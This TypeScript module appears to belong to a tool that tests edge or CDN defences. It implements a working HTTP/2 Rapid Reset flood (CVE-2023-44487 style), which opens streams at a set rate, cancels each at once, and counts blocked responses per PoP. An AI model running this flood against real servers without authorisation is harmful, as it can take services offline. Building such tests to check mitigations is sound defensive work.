import http2 from 'node:http2';
import net from 'node:net';
import type { AttackParams } from '../../../../contracts/agent-api.ts';
import { runAtFixedRate } from '../fixed-rate.ts';
import type { Traffic } from '../probe-job.ts';
import { parseServedBy } from '../send-request.ts';
import { countAtPop, isBlockStatus, newCounters, snapshot } from './counters.ts';
import type { RunningAttack } from './counters.ts';

const DEFAULT_H2_SESSIONS = 4;
/** A session that died is reopened at most this often, so that a refusing edge is not hammered with connects. */
const RECONNECT_INTERVAL_MS = 100;

/**
 * CVE-2023-44487 style: over `connections` cleartext HTTP/2 sessions, open a stream and cancel it
 * at once (RST_STREAM), `rps` times a second. blocked: GOAWAYs and 429/403 answers from the edge.
 */
export function startRapidReset(params: AttackParams, traffic: Traffic): RunningAttack {
  const counters = newCounters();
  const sessions: Array<{ session: http2.ClientHttp2Session; openedAt: number } | undefined> = [];
  let reconnectSkips = 0;
  const sessionFor = (slot: number): http2.ClientHttp2Session | undefined => {
    const current = sessions[slot];
    if (current !== undefined && !current.session.closed && !current.session.destroyed) return current.session;
    if (current !== undefined && performance.now() - current.openedAt < RECONNECT_INTERVAL_MS) return undefined;
    const source = traffic.nextSource();
    const session = http2.connect(`http://${traffic.target.host}:${traffic.target.port}`, {
      createConnection: () => net.connect({ host: traffic.target.host, port: traffic.target.port, ...(source === undefined ? {} : { localAddress: source }) }),
    });
    session.on('error', () => counters.errors++);
    session.on('goaway', () => counters.blocked++);
    sessions[slot] = { session, openedAt: performance.now() };
    return session;
  };
  const slots = params.connections ?? DEFAULT_H2_SESSIONS;
  const run = runAtFixedRate({
    ratePerS: params.rps,
    durationMs: params.durationMs,
    maxInFlight: slots,
    fire: async (seq) => {
      const session = sessionFor(seq % slots);
      if (session === undefined) {
        reconnectSkips++;
        return;
      }
      try {
        const stream = session.request({ ':method': 'GET', ':path': params.path });
        counters.sent++;
        stream.on('response', (headers) => {
          const status = Number(headers[':status']);
          const blocked = isBlockStatus(status);
          if (blocked) counters.blocked++;
          else if (status < 400) counters.ok++;
          countAtPop(counters, parseServedBy(headers['x-served-by'])?.pop, blocked);
        });
        stream.on('error', () => undefined);
        stream.close(http2.constants.NGHTTP2_CANCEL);
      } catch {
        counters.errors++;
      }
    },
  });
  const done = run.done.then(() => {
    for (const s of sessions) s?.session.destroy();
  });
  return {
    done,
    stop: () => run.stop(),
    counters: () => {
      const stats = run.stats();
      return snapshot(counters, { skipped: stats.skipped + reconnectSkips, inFlight: stats.inFlight });
    },
  };
}
